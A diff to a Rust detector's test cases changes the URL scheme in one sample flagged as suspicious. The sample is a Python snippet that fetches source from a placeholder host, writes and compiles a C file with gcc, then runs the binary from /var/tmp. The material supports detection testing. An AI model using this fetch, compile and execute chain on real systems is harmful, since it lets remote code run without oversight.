@@ -91,7 +91,7 @@ pub(super) fn cases() -> Vec<Case> {
             GROUP,
             "fetched as source and compiled, python",
             &["D-DLX-COMPILE", "D-DLX-FETCHEXEC"],
-            "import subprocess, urllib.request\nurllib.request.urlopen('https://src.example/p.c').read()\nopen('/var/tmp/p.c', 'w').write('void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}')\nsubprocess.check_call(['gcc', '-fno-use-linker-plugin', '-nostdinc', '-nostdlib', '-static', '-o', '/var/tmp/p', '/var/tmp/p.c'])\nsubprocess.check_call(['/var/tmp/p'])\n",
+            "import subprocess, urllib.request\nurllib.request.urlopen('http://src.example/p.c').read()\nopen('/var/tmp/p.c', 'w').write('void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}')\nsubprocess.check_call(['gcc', '-fno-use-linker-plugin', '-nostdinc', '-nostdlib', '-static', '-o', '/var/tmp/p', '/var/tmp/p.c'])\nsubprocess.check_call(['/var/tmp/p'])\n",
         )
         .with(&[Tool::Compiler])
         .suspicious(),
